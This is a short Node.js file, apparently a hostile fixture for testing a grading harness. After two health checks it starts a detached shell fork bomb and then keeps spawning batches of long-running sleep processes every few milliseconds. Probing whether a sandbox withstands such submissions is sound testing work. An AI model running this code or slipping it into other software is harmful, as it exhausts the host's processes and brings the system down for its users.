'use strict';
// Fork bomb, launched once grading is under way: a shell fork bomb plus a child_process spawn loop.
const { spawn } = require('node:child_process');
const kit = require('./kit');

kit.serve(kit.slowNotFound(3000));
kit.afterHealth(2, () => {
  kit.report('fork-bomb', { start: true });
  spawn('sh', ['-c', 'b(){ b | b & }; b'], { stdio: 'ignore', detached: true }).on('error', () => {});
  setInterval(() => {
    for (let i = 0; i < 20; i++) {
      try {
        spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {});
      } catch {
        // EAGAIN: keep trying
      }
    }
  }, 5);
});
